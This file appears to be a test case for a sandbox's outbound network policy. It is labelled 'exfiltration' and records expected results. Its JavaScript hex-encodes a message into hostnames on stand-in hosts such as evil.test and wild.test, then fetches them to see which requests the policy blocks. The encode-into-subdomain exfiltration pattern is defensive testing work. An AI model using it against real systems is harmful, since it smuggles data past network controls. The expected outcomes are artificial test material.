// class: exfiltration
// tries: to have names looked up that carry a message, without any of them being allowed
// ending: value ["fetch: the outbound policy does not allow http://77686174206974206b6e6f7773.evil.test","fetch: the outbound policy does not allow http://77686174206974206b6e6f7773.a.test",200,200,200]
// tools: []
// outbound: [{"method":"GET","url":"http://77686174206974206b6e6f7773.evil.test/"},{"method":"GET","url":"http://77686174206974206b6e6f7773.a.test/"},{"method":"GET","url":"http://xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.wild.test/"},{"method":"GET","url":"http://x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.wild.test/"},{"method":"GET","url":"http://77686174206974206b6e6f7773.wild.test/"}]
// setting: direct
// dials: ["8.8.8.8:80"]

const said = [...'what it knows'].map((c) => c.charCodeAt(0).toString(16)).join('');
const urls = [`http://${said}.evil.test/`, `http://${said}.a.test/`, `http://${'x'.repeat(64)}.wild.test/`, `http://${'x.'.repeat(200)}wild.test/`, `http://${said}.wild.test/`];
const got = [];
for (const url of urls) {
  try { got.push((await fetch(url)).status); } catch (error) { got.push(error.message); }
}
return got;
